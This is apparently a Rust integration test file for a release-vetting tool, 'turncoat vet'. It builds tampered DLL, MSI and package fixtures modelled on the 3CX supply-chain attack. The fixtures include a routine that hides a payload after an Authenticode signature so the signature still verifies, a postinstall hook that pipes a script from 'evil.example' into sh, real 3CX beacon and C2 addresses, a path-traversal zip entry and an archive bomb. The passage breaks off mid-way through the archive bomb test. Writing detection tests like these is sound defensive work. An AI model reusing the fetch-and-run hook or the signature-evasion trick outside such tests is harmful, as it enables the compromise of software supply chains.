//! `turncoat vet` end to end on real PE fixtures, built here: DLLs compiled
//! with mingw-w64, a version resource from windres, signed by osslsigncode
//! with a throwaway certificate from openssl; then tampered with the way
//! the 3CX release was. Skipped with a printed reason when a tool is
//! missing (`.ci/run` installs them).

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

fn run(cmd: &mut Command) {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{cmd:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

struct Fixtures {
    dir: tempfile::TempDir,
}

impl Fixtures {
    fn new() -> Option<Fixtures> {
        for tool in [
            "x86_64-w64-mingw32-gcc",
            "x86_64-w64-mingw32-windres",
            "osslsigncode",
            "openssl",
        ] {
            if !have(tool) {
                eprintln!("skipped: {tool} is not installed");
                return None;
            }
        }
        let f = Fixtures {
            dir: tempfile::tempdir().unwrap(),
        };
        f.certificate("key.pem", "cert.pem", &["rsa:2048"]);
        Some(f)
    }

    /// A self-signed certificate for the test signer's name, with a new
    /// key made by `newkey` (`openssl req -newkey` and its options).
    fn certificate(&self, key: &str, cert: &str, newkey: &[&str]) {
        run(Command::new("openssl")
            .current_dir(self.dir.path())
            .args(["req", "-x509", "-newkey"])
            .args(newkey)
            .args([
                "-nodes",
                "-keyout",
                key,
                "-out",
                cert,
                "-days",
                "2",
                "-subj",
                "/CN=Turncoat Test Signer",
            ]));
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Compiles `source` into `name` with a version resource of `version`
    /// (four numbers, comma-separated).
    fn dll(&self, name: &str, source: &str, version: &str, libs: &[&str]) -> PathBuf {
        let stem = name.trim_end_matches(".dll");
        std::fs::write(self.path(&format!("{stem}.c")), source).unwrap();
        let dotted = version.replace(',', ".");
        std::fs::write(
            self.path(&format!("{stem}.rc")),
            format!("1 VERSIONINFO\nFILEVERSION {version}\nPRODUCTVERSION {version}\nBEGIN\n BLOCK \"StringFileInfo\"\n BEGIN\n  BLOCK \"040904b0\"\n  BEGIN\n   VALUE \"FileVersion\", \"{dotted}\"\n  END\n END\nEND\n"),
        )
        .unwrap();
        run(Command::new("x86_64-w64-mingw32-windres")
            .current_dir(self.dir.path())
            .args([
                &format!("{stem}.rc"),
                "-O",
                "coff",
                "-o",
                &format!("{stem}.res.o"),
            ]));
        let out = self.path(name);
        let mut gcc = Command::new("x86_64-w64-mingw32-gcc");
        gcc.current_dir(self.dir.path())
            .args(["-shared", "-O1", "-s", "-o"])
            .arg(&out)
            .args([&format!("{stem}.c"), &format!("{stem}.res.o")]);
        for l in libs {
            gcc.arg(format!("-l{l}"));
        }
        run(&mut gcc);
        out
    }

    /// Signs `file` in place.
    fn sign(&self, file: &Path) {
        self.sign_with(file, "key.pem", "cert.pem");
    }

    fn sign_with(&self, file: &Path, key: &str, cert: &str) {
        let signed = file.with_extension("signed");
        run(Command::new("osslsigncode")
            .args(["sign", "-certs"])
            .arg(self.path(cert))
            .arg("-key")
            .arg(self.path(key))
            .args(["-h", "sha256", "-in"])
            .arg(file)
            .arg("-out")
            .arg(&signed));
        std::fs::rename(&signed, file).unwrap();
    }
}

/// Appends `payload` inside the certificate table (the last thing in the
/// file), growing the WIN_CERTIFICATE and the security directory to cover
/// it: the signature still verifies, as in CVE-2013-3900.
fn hide_in_certificate_table(file: &Path, payload: &[u8]) {
    let mut pe = std::fs::read(file).unwrap();
    let u32_at = |d: &[u8], o: usize| u32::from_le_bytes(d[o..o + 4].try_into().unwrap());
    let nt = u32_at(&pe, 0x3c) as usize;
    let optional = nt + 24;
    assert_eq!(&pe[optional..optional + 2], &[0x0b, 0x02], "PE32+");
    let security = optional + 112 + 4 * 8;
    let (table, size) = (
        u32_at(&pe, security) as usize,
        u32_at(&pe, security + 4) as usize,
    );
    assert_eq!(
        table + size,
        pe.len(),
        "the certificate table ends the file"
    );
    assert_eq!(payload.len() % 8, 0);
    let grown = (size + payload.len()) as u32;
    pe[security + 4..security + 8].copy_from_slice(&grown.to_le_bytes());
    let entry = u32_at(&pe, table) + payload.len() as u32;
    pe[table..table + 4].copy_from_slice(&entry.to_le_bytes());
    pe.extend_from_slice(payload);
    std::fs::write(file, pe).unwrap();
}

fn vet(args: &[&Path]) -> (Option<i32>, Value) {
    let out = Command::new(env!("CARGO_BIN_EXE_turncoat"))
        .arg("vet")
        .args(args)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let report = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code(), report)
}

/// `turncoat vet --format sarif`, which must exit 1 and, where CI
/// provides the official schema (`TURNCOAT_TEST_SARIF_SCHEMA`), be valid
/// SARIF 2.1.0.
fn sarif(args: &[&Path]) -> Value {
    let out = Command::new(env!("CARGO_BIN_EXE_turncoat"))
        .args(["vet", "--format", "sarif"])
        .args(args)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    match std::env::var_os("TURNCOAT_TEST_SARIF_SCHEMA") {
        Some(path) => {
            let mut schema: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
            // Its `language` patterns end `{2}]?$`: a literal `]` to
            // ECMAScript, a syntax error to Rust's regex. Escaping it keeps
            // their meaning.
            fn escape_brackets(v: &mut Value) {
                match v {
                    Value::Object(m) => {
                        for (k, x) in m.iter_mut() {
                            match x {
                                Value::String(p) if k == "pattern" => {
                                    *p = p.replace("{2}]?$", "{2}\\]?$")
                                }
                                _ => escape_brackets(x),
                            }
                        }
                    }
                    Value::Array(items) => items.iter_mut().for_each(escape_brackets),
                    _ => {}
                }
            }
            escape_brackets(&mut schema);
            let validator = jsonschema::draft4::new(&schema).unwrap();
            let errors: Vec<String> = validator
                .iter_errors(&log)
                .map(|e| format!("{}: {e}", e.instance_path()))
                .collect();
            assert!(errors.is_empty(), "not valid SARIF 2.1.0: {errors:#?}");
            // The validator does reject what the schema forbids.
            let mut broken = log.clone();
            broken["runs"][0]["results"][0]["level"] = "severe".into();
            assert!(!validator.is_valid(&broken));
        }
        None => println!(
            "SARIF schema validation skipped: TURNCOAT_TEST_SARIF_SCHEMA is unset (.ci/run sets it)"
        ),
    }
    log
}

fn ids_for<'a>(report: &'a Value, file_suffix: &str) -> Vec<&'a str> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["file"].as_str().unwrap().ends_with(file_suffix))
        .map(|f| f["id"].as_str().unwrap())
        .collect()
}

const FFMPEG_1: &str = "__declspec(dllexport) int av_decode(int x) { return x * 3 + 1; }\n";
const FFMPEG_2: &str = "#include <windows.h>\n#include <wininet.h>\n__declspec(dllexport) int av_decode(int x) { return x * 3 + 1; }\n__declspec(dllexport) int av_update(void) { HINTERNET h = InternetOpenA(\"Mozilla/5.0\", 0, 0, 0, 0); return InternetOpenUrlA(h, \"https://raw.githubusercontent.com/IconStorages/images/main/icon12.ico\", 0, 0, 0, 0) != 0; }\n";
const D3D: &str = "__declspec(dllexport) int D3DCompile(int x) { return x + 47; }\n";
const HELPER: &str = "__declspec(dllexport) int helper(int x) { return x - 1; }\n";

#[test]
fn a_release_pair_with_the_3cx_tampering_is_caught_and_a_clean_one_is_not() {
    let Some(fx) = Fixtures::new() else { return };
    let old = fx.path("old");
    let new = fx.path("new");
    for d in [&old, &new] {
        std::fs::create_dir_all(d.join("app")).unwrap();
    }
    // The previous release: every module signed.
    for (dir, ffmpeg) in [(&old, FFMPEG_1), (&new, FFMPEG_2)] {
        let f = fx.dll(
            "ffmpeg.dll",
            ffmpeg,
            "4,4,0,0",
            if ffmpeg == FFMPEG_2 {
                &["wininet"]
            } else {
                &[]
            },
        );
        fx.sign(&f);
        std::fs::rename(&f, dir.join("app/ffmpeg.dll")).unwrap();
        let d3d = fx.dll("d3dcompiler_47.dll", D3D, "10,0,20348,1", &[]);
        fx.sign(&d3d);
        std::fs::rename(&d3d, dir.join("app/d3dcompiler_47.dll")).unwrap();
    }
    let helper = fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
    fx.sign(&helper);
    std::fs::copy(&helper, old.join("app/helper.dll")).unwrap();

    // The old release alone is clean: signatures are informational.
    let (code, report) = vet(&[&old]);
    assert_eq!(report["verdict"], "clean", "{report:#}");
    assert_eq!(code, Some(0));
    assert!(ids_for(&report, "ffmpeg.dll").contains(&"info.signed"));
    let signer = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "app/ffmpeg.dll")
        .unwrap()["signature"]["signer"]
        .clone();
    assert!(
        signer.as_str().unwrap().contains("Turncoat Test Signer"),
        "{signer}"
    );

    // The new release: a payload hidden after d3dcompiler's signature, an
    // unsigned helper beside signed modules, ffmpeg's code changed under
    // the same version.
    hide_in_certificate_table(&new.join("app/d3dcompiler_47.dll"), &[0xfe; 4096]);
    fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
    std::fs::copy(fx.path("helper.dll"), new.join("app/helper.dll")).unwrap();
    let (code, report) = vet(&[&new, Path::new("--against"), &old]);
    assert_eq!(code, Some(1));
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    let log = sarif(&[&new, Path::new("--against"), &old]);
    assert_eq!(
        log["runs"][0]["results"].as_array().unwrap().len(),
        report["findings"].as_array().unwrap().len()
    );
    let d3d = ids_for(&report, "d3dcompiler_47.dll");
    assert!(
        d3d.contains(&"authenticode.data-after-signature"),
        "{d3d:?}"
    );
    assert!(
        !d3d.contains(&"authenticode.digest-mismatch"),
        "the digest still matches: {d3d:?}"
    );
    let ffmpeg = ids_for(&report, "ffmpeg.dll");
    for id in [
        "diff.changed-same-version",
        "diff.new-imports",
        "diff.new-network-strings",
    ] {
        assert!(ffmpeg.contains(&id), "{id}: {ffmpeg:?}");
    }
    let helper = ids_for(&report, "helper.dll");
    assert!(
        helper.contains(&"authenticode.unsigned-module"),
        "{helper:?}"
    );
    assert!(
        helper.contains(&"authenticode.signature-removed"),
        "{helper:?}"
    );
    assert!(
        report["findings"][0]["id"]
            .as_str()
            .unwrap()
            .starts_with("diff.")
            || report["findings"][0]["id"]
                .as_str()
                .unwrap()
                .starts_with("authenticode."),
        "the diff comes first"
    );
    let strings = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "diff.new-network-strings")
        .unwrap();
    assert!(
        strings["evidence"]
            .to_string()
            .contains("raw.githubusercontent.com/IconStorages"),
        "{strings:#}"
    );

    // A byte of code changed after signing: the digest no longer matches.
    let broken = fx.path("broken");
    std::fs::create_dir_all(&broken).unwrap();
    let mut pe = std::fs::read(old.join("app/helper.dll")).unwrap();
    let text = {
        let file = object_text_offset(&pe);
        file + 16
    };
    pe[text] ^= 0xff;
    std::fs::write(broken.join("helper.dll"), pe).unwrap();
    let (_, report) = vet(&[&broken.join("helper.dll")]);
    assert!(
        ids_for(&report, "helper.dll").contains(&"authenticode.digest-mismatch"),
        "{report:#}"
    );
}

/// File offset of the first section's raw data (the code, in these DLLs).
fn object_text_offset(pe: &[u8]) -> usize {
    let u16_at = |o: usize| u16::from_le_bytes(pe[o..o + 2].try_into().unwrap()) as usize;
    let u32_at = |o: usize| u32::from_le_bytes(pe[o..o + 4].try_into().unwrap()) as usize;
    let nt = u32_at(0x3c);
    let optional_size = u16_at(nt + 20);
    let first_section = nt + 24 + optional_size;
    u32_at(first_section + 20)
}

#[test]
fn archives_are_unpacked_and_hostile_entries_reported() {
    let Some(fx) = Fixtures::new() else { return };
    let d3d = fx.dll("d3dcompiler_47.dll", D3D, "10,0,20348,1", &[]);
    fx.sign(&d3d);
    hide_in_certificate_table(&d3d, &[0x41; 64]);
    // A zip (as a nupkg) holding the DLL, a tarball inside it, and an
    // entry that climbs out.
    let tgz = fx.path("inner.tgz");
    run(Command::new("sh").current_dir(fx.dir.path()).args([
        "-c",
        "mkdir -p pkg && cp d3dcompiler_47.dll pkg/ && tar czf inner.tgz pkg",
    ]));
    let nupkg = fx.path("release.nupkg");
    run(Command::new("python3").current_dir(fx.dir.path()).args(["-c", &format!(
        "import zipfile\nz = zipfile.ZipFile('release.nupkg', 'w', zipfile.ZIP_DEFLATED)\nz.write('d3dcompiler_47.dll', 'lib/d3dcompiler_47.dll')\nz.write('{}', 'inner.tgz')\nz.writestr('../../evil.txt', 'x')\nz.close()\n",
        tgz.display()
    )]));
    let (code, report) = vet(&[&nupkg]);
    assert_eq!(code, Some(1));
    let paths: Vec<&str> = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"release.nupkg!/lib/d3dcompiler_47.dll"),
        "{paths:?}"
    );
    assert!(
        paths.contains(&"release.nupkg!/inner.tgz!/inner.tar!/pkg/d3dcompiler_47.dll"),
        "{paths:?}"
    );
    let tampered = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["id"] == "authenticode.data-after-signature")
        .count();
    assert_eq!(tampered, 2, "found in the zip and in the tarball inside it");
    assert!(ids_for(&report, "evil.txt").contains(&"archive.path-traversal"));
}

/// A Windows Installer package as a vendor ships one: built by wixl with
/// its cabinet embedded, and signed.
const SETUP_WXS: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="*" Name="Turncoat Test Phone" Language="1033" Version="18.12.416.0" Manufacturer="Turncoat Tests" UpgradeCode="8b1f3a52-2f9e-4c3b-9a55-2d0c6f1e7a01">
    <Package InstallerVersion="200" Compressed="yes" />
    <Media Id="1" Cabinet="app.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder">
        <Directory Id="INSTALLDIR" Name="TestPhone">
          <Component Id="Main" Guid="3c1e0f4a-7d7b-4a3e-8d0e-1f2a3b4c5d6e">
            <File Id="d3dcompiler_47.dll" Source="d3dcompiler_47.dll" />
            <File Id="ffmpeg.dll" Source="ffmpeg.dll" />
          </Component>
        </Directory>
      </Directory>
    </Directory>
    <Feature Id="All" Level="1"><ComponentRef Id="Main" /></Feature>
  </Product>
</Wix>
"#;

#[test]
fn a_signed_msi_is_verified_and_unpacked_down_to_its_dlls() {
    let Some(fx) = Fixtures::new() else { return };
    if !have("wixl") {
        eprintln!("skipped: wixl is not installed");
        return;
    }
    let d3d = fx.dll("d3dcompiler_47.dll", D3D, "10,0,20348,1", &[]);
    fx.sign(&d3d);
    hide_in_certificate_table(&d3d, &[0x41; 64]);
    fx.dll("ffmpeg.dll", FFMPEG_1, "18,12,416,0", &[]);
    std::fs::write(fx.path("setup.wxs"), SETUP_WXS).unwrap();
    run(Command::new("wixl")
        .current_dir(fx.dir.path())
        .args(["-o", "setup.msi", "setup.wxs"]));
    let msi = fx.path("setup.msi");
    fx.sign(&msi);

    let (code, report) = vet(&[&msi]);
    assert_eq!(code, Some(1));
    let file = |path: &str| {
        report["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("no {path} in {:#}", report["files"]))
            .clone()
    };
    let package = file("setup.msi");
    assert_eq!(package["signature"]["digest_matches"], true, "{package:#}");
    assert!(
        package["signature"]["signer"]
            .as_str()
            .is_some_and(|s| s.contains("Turncoat Test Signer")),
        "{package:#}"
    );
    assert_eq!(ids_for(&report, "setup.msi"), ["info.signed"]);
    // The DLLs come out of the cabinet inside the package.
    file("setup.msi!/[5]SummaryInformation");
    assert!(
        ids_for(&report, "setup.msi!/app.cab!/d3dcompiler_47.dll")
            .contains(&"authenticode.data-after-signature"),
        "{report:#}"
    );
    assert!(
        ids_for(&report, "setup.msi!/app.cab!/ffmpeg.dll")
            .contains(&"authenticode.unsigned-module"),
        "{report:#}"
    );

    // One byte changed in a signed stream (a file name in the cabinet):
    // the signature no longer covers the content.
    let mut bytes = std::fs::read(&msi).unwrap();
    let at = bytes
        .windows(11)
        .position(|w| w == b"ffmpeg.dll\0")
        .expect("the cabinet names its files");
    bytes[at + 9] = b'x';
    let tampered = fx.path("tampered.msi");
    std::fs::write(&tampered, bytes).unwrap();
    let (code, report) = vet(&[&tampered]);
    assert_eq!(code, Some(1));
    assert!(
        ids_for(&report, "tampered.msi").contains(&"authenticode.digest-mismatch"),
        "{report:#}"
    );
}

#[test]
fn npm_and_pypi_packages_with_install_hooks() {
    let dir = tempfile::tempdir().unwrap();
    let pack = |name: &str, files: &[(&str, &str)]| {
        let root = dir.path().join(name);
        for (path, text) in files {
            let p = root.join(path);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        let tgz = dir.path().join(format!("{name}.tgz"));
        run(Command::new("tar")
            .arg("czf")
            .arg(&tgz)
            .arg("-C")
            .arg(&root)
            .arg("."));
        tgz
    };
    let clean = pack(
        "clean",
        &[
            (
                "package/package.json",
                r#"{"name":"left-pad","version":"1.3.0","scripts":{"test":"node test.js"}}"#,
            ),
            ("package/index.js", "module.exports = (s) => s;\n"),
        ],
    );
    let (code, report) = vet(&[&clean]);
    assert_eq!(
        (code, report["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{report:#}"
    );
    let hooked = pack(
        "hooked",
        &[(
            "package/package.json",
            r#"{"name":"left-pad","version":"1.3.1","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
        )],
    );
    let (code, report) = vet(&[&hooked]);
    assert_eq!(code, Some(1));
    let hook = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "package.install-script")
        .expect("the hook");
    assert_eq!(hook["severity"], "high");
    assert!(
        hook["file"]
            .as_str()
            .unwrap()
            .ends_with("package/package.json"),
        "{hook:#}"
    );
    // Intel: a known-bad hash, and a C2 domain of the 3CX pack embedded in code.
    let beacon = pack(
        "beacon",
        &[(
            "package/index.js",
            "fetch('https://akamaicontainer.com/x')\n",
        )],
    );
    let digest = String::from_utf8(
        Command::new("sha256sum")
            .arg(&clean)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let intel = dir.path().join("iocs.csv");
    std::fs::write(&intel, format!("type,value\nsha256,{}\n", &digest[..64])).unwrap();
    let (code, report) = vet(&[&clean, Path::new("--intel"), &intel]);
    assert_eq!(code, Some(1));
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    assert_eq!(report["findings"][0]["id"], "ioc.hash");
    let pack_3cx = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../intel/3cx");
    let (_, report) = vet(&[&beacon, Path::new("--intel"), &pack_3cx]);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["id"] == "ioc.network" && f["file"].as_str().unwrap().ends_with("index.js")),
        "{report:#}"
    );
    // The same findings as SARIF 2.1.0.
    let log = sarif(&[&hooked]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let (_, json) = vet(&[&hooked]);
    assert_eq!(results.len(), json["findings"].as_array().unwrap().len());
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "package.install-script" && r["level"] == "error")
    );
    let sdist = pack(
        "sdist",
        &[(
            "pkg-1.0/setup.py",
            "import subprocess\nsubprocess.call(['sh', '-c', 'id'])\nfrom setuptools import setup\nsetup(name='pkg')\n",
        )],
    );
    let (_, report) = vet(&[&sdist]);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["id"] == "package.install-script" && f["severity"] == "high"),
        "{report:#}"
    );
}

/// Lockfiles and manifests in a release, matched offline against OSV
/// records: a malicious crate makes the release malicious, a vulnerable
/// npm or PyPI version suspicious, a fixed version nothing; against the
/// previous release, the packages it adds are listed.
#[test]
fn dependencies_are_matched_against_osv_records() {
    let dir = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let p = dir.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    let release = |root: &str, lodash: &str, extra_npm: &str| {
        write(
            &format!("{root}/Cargo.lock"),
            "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\n\n\
             [[package]]\nname = \"rustdecimal\"\nversion = \"1.23.1\"\n\
             source = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
        );
        write(
            &format!("{root}/web/package-lock.json"),
            &format!(
                r#"{{"lockfileVersion":3,"packages":{{"":{{"name":"web"}},
                "node_modules/lodash":{{"version":"{lodash}"}}{extra_npm}}}}}"#
            ),
        );
        write(
            &format!("{root}/requirements.txt"),
            "Django==3.2.0\nflask>=2.0\n",
        );
        dir.path().join(root)
    };
    let v1 = release("v1", "4.17.19", "");
    let v2 = release(
        "v2",
        "4.17.20",
        r#","node_modules/left-pad":{"version":"1.3.0"}"#,
    );
    let fixed = release("fixed", "4.17.21", "");

    // OSV: the shared MAL record when present (else the same facts), a
    // GitHub advisory for lodash, and one for Django inside a zip.
    let osv = dir.path().join("osv");
    std::fs::create_dir_all(&osv).unwrap();
    let shared =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/osv/MAL-2022-1.json");
    let mal = std::fs::read_to_string(&shared).unwrap_or_else(|_| {
        println!("{} is absent: writing the record's facts", shared.display());
        r#"{"id":"MAL-2022-1","summary":"Malicious code in rustdecimal (crates.io)","affected":[{"package":{"ecosystem":"crates.io","name":"rustdecimal"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}"#.into()
    });
    std::fs::write(osv.join("MAL-2022-1.json"), mal).unwrap();
    std::fs::write(
        osv.join("GHSA-35jh-r3h4-6jhm.json"),
        r#"{"id":"GHSA-35jh-r3h4-6jhm","summary":"Command Injection in lodash","database_specific":{"severity":"HIGH"},
        "affected":[{"package":{"ecosystem":"npm","name":"lodash"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"4.17.21"}]}]}]}"#,
    )
    .unwrap();
    std::fs::write(osv.join("SOURCE"), "not a record\n").unwrap();
    run(Command::new("python3").current_dir(&osv).args(["-c",
        "import zipfile\nz = zipfile.ZipFile('pypi.zip', 'w')\nz.writestr('PYSEC-2021-x.json', '{\"id\":\"GHSA-django-x\",\"summary\":\"SQL injection in Django\",\"database_specific\":{\"severity\":\"MODERATE\"},\"affected\":[{\"package\":{\"ecosystem\":\"PyPI\",\"name\":\"django\"},\"ranges\":[{\"type\":\"ECOSYSTEM\",\"events\":[{\"introduced\":\"3.2\"},{\"fixed\":\"3.2.2\"}]}]}]}')\nz.close()\n"]));

    let (code, report) = vet(&[&v2, Path::new("--osv"), &osv]);
    assert_eq!(code, Some(1));
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    let found = |id: &str| -> Vec<(String, String, String)> {
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["id"] == id)
            .map(|f| {
                (
                    f["file"]
                        .as_str()
                        .unwrap()
                        .rsplit('/')
                        .next()
                        .unwrap()
                        .to_owned(),
                    f["evidence"]["package"].as_str().unwrap_or("").to_owned(),
                    f["severity"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let own = |f: &str, p: &str, s: &str| (f.to_owned(), p.to_owned(), s.to_owned());
    assert_eq!(
        found("osv.malicious"),
        [own("Cargo.lock", "rustdecimal", "critical")]
    );
    assert_eq!(
        found("osv.vulnerable"),
        [
            own("requirements.txt", "Django", "medium"),
            own("package-lock.json", "lodash", "high"),
        ]
    );
    let lodash = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["evidence"]["package"] == "lodash")
        .unwrap();
    assert_eq!(lodash["evidence"]["fixed"], "4.17.21");
    assert!(ids_for(&report, "requirements.txt").contains(&"info.unpinned-dependencies"));

    // Without the MAL record, vulnerabilities alone are suspicious; a
    // release on the fixed lodash has only the others.
    std::fs::remove_file(osv.join("MAL-2022-1.json")).unwrap();
    let (code, report) = vet(&[&v2, Path::new("--osv"), &osv]);
    assert_eq!(
        (code, report["verdict"].as_str()),
        (Some(1), Some("suspicious"))
    );
    let (_, report) = vet(&[&fixed, Path::new("--osv"), &osv]);
    assert!(
        !ids_for(&report, "package-lock.json").contains(&"osv.vulnerable"),
        "{report:#}"
    );
    // No OSV data: nothing to match, and unpinned requirements are only
    // informational.
    let (code, report) = vet(&[&v2]);
    assert_eq!(
        (code, report["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{report:#}"
    );

    // Against the previous release: left-pad is new, lodash moved.
    let (_, report) = vet(&[&v2, Path::new("--against"), &v1]);
    let change = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "diff.new-dependencies")
        .expect("the new dependencies");
    assert_eq!(
        change["evidence"]["added"],
        serde_json::json!(["left-pad@1.3.0"])
    );
    assert_eq!(change["evidence"]["updated"][0]["to"], "4.17.20");
    assert_eq!(change["severity"], "info");

    // An SBOM is a manifest too: OWASP Juice Shop's CycloneDX SBOM ships
    // two lodash versions below the fix.
    let juice = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/sbom/cyclonedx/SBOM/juice-shop/v11.1.2/bom.json");
    if juice.exists() {
        let (code, report) = vet(&[&juice, Path::new("--osv"), &osv]);
        assert_eq!(code, Some(1));
        let mut versions: Vec<&str> = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["id"] == "osv.vulnerable")
            .map(|f| f["evidence"]["version"].as_str().unwrap())
            .collect();
        versions.sort();
        assert_eq!(versions, ["2.4.2", "4.17.19"], "{report:#}");
    } else {
        println!("skipped the SBOM part: {} is absent", juice.display());
    }

    // OSV findings in SARIF: GitHub shows them on the lockfile.
    let log = sarif(&[&v2, Path::new("--osv"), &osv]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().any(|r| {
        r["ruleId"] == "osv.vulnerable"
            && r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
                .ends_with("package-lock.json")
    }));

    // A lockfile that does not parse is reported, not fatal.
    write("broken/Cargo.lock", "[[package]\nname = ");
    let (code, report) = vet(&[&dir.path().join("broken")]);
    assert_eq!(code, Some(1));
    assert_eq!(
        ids_for(&report, "Cargo.lock"),
        ["package.manifest-malformed"]
    );
}

/// A stored cabinet of `files` (name, bytes, declared start in the
/// folder), laid out as MS-CAB says, without checksums.
fn stored_cabinet(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let table: Vec<u8> = files
        .iter()
        .flat_map(|(name, data, start)| {
            let mut entry = Vec::new();
            entry.extend((data.len() as u32).to_le_bytes());
            entry.extend(start.to_le_bytes());
            entry.extend([0, 0, 0x21, 0x5a, 0, 0, 0x20, 0]); // folder 0, date, time, attributes
            entry.extend(name.as_bytes());
            entry.push(0);
            entry
        })
        .collect();
    let data: Vec<u8> = files
        .iter()
        .flat_map(|(_, d, _)| d.iter().copied())
        .collect();
    let (files_at, blocks_at) = (36 + 8, 36 + 8 + table.len());
    let total = blocks_at + 8 + data.len();
    let mut cab = b"MSCF".to_vec();
    for field in [0, total as u32, 0, files_at as u32, 0] {
        cab.extend(field.to_le_bytes());
    }
    cab.extend([3, 1]); // version 1.3
    for field in [1u16, files.len() as u16, 0, 0, 0] {
        cab.extend(field.to_le_bytes()); // folders, files, flags, set id, index
    }
    cab.extend((blocks_at as u32).to_le_bytes());
    cab.extend([1, 0, 0, 0]); // one block, stored
    cab.extend(table);
    cab.extend([0; 4]); // no checksum
    cab.extend((data.len() as u16).to_le_bytes());
    cab.extend((data.len() as u16).to_le_bytes());
    cab.extend(data);
    cab
}

#[test]
fn a_hostile_cabinet_is_reported_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    // Vets a cabinet whose b.txt declares `b_start`: the exit code, the
    // files read and the findings on b.txt.
    let vet_cabinet = |name: &str, b_start: u32| {
        let path = dir.path().join(name);
        let cab = stored_cabinet(&[("a.txt", b"first", 0), ("b.txt", b"second", b_start)]);
        std::fs::write(&path, cab).unwrap();
        let (code, report) = vet(&[&path]);
        let paths: Vec<String> = report["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap().to_owned())
            .collect();
        let on_b: Vec<String> = ids_for(&report, &format!("{name}!/b.txt"))
            .into_iter()
            .map(str::to_owned)
            .collect();
        (code, paths, on_b)
    };
    let (code, paths, on_b) = vet_cabinet("good.cab", 5);
    assert_eq!(code, Some(0));
    assert_eq!(paths, ["good.cab", "good.cab!/a.txt", "good.cab!/b.txt"]);
    assert!(on_b.is_empty(), "{on_b:?}");

    // b.txt claims to start far past the folder's 11 bytes: the `cab`
    // crate would panic seeking there.
    let (code, paths, on_b) = vet_cabinet("hostile.cab", 5000);
    assert_eq!(code, Some(1));
    assert_eq!(paths, ["hostile.cab", "hostile.cab!/a.txt"]);
    assert_eq!(on_b, ["archive.malformed"]);
}

/// Four layers of sixteen copies, as in 42.zip: each entry looks modest,
/// the whole would unpack to 1 GiB.
#[test]
fn a_nested_archive_bomb_is_cut_short_and_reported_once() {
    if !have("python3") {
        println!("skipped: python3 is needed to build the bomb");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    run(Command::new("python3").current_dir(dir.path()).args([
        "-c",
        "import io, zipfile\n\
         def copies(data, ext):\n\
         \x20   out = io.BytesIO()\n\
         \x20   with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:\n\
         \x20       for i in range(16):\n\
         \x20           z.writestr('%x%s' % (i, ext), data)\n\
         \x20   return out.getvalue()\n\
